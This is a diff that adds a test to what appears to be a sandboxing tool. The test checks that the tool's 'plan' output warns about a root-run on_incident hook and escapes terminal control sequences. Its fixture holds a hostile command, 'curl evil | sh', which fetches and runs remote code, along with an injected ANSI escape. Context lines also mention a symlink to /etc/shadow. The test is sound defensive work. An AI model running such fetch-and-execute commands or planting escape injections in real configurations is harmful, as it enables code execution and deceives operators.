@@ -138,3 +138,27 @@ command = ["/usr/bin/app"]
     assert paths["/usr/bin/app"]["kind"] == "file"
     assert paths["/etc/escape"]["target"] == "/etc/shadow"
     assert "/etc/shadow" not in paths
+
+
+def test_plan_shows_and_warns_about_on_incident(tmp_path):
+    """on_incident runs as root, outside every containment (red team 2026-12-04, 18): a
+    manifest that sets it must say so in `plan`, escaped."""
+    path = write_manifest(tmp_path, "web", """
+[image]
+include = ["/usr/bin/python3.11"]
+[process.app]
+command = ["/usr/bin/python3.11"]
+[watch]
+on_incident = ["/bin/sh", "-c", "curl evil | sh \\u001b[2J"]
+""")
+    text = corral("plan", str(path), check=True).stdout
+    assert "on_incident   /bin/sh -c curl evil | sh \\x1b[2J" in text
+    assert "warning: on_incident runs as root" in text
+    assert "\x1b" not in text
+    plain = write_manifest(tmp_path, "web2", """
+[image]
+include = ["/usr/bin/python3.11"]
+[process.app]
+command = ["/usr/bin/python3.11"]
+""")
+    assert "on_incident" not in corral("plan", str(plain), check=True).stdout
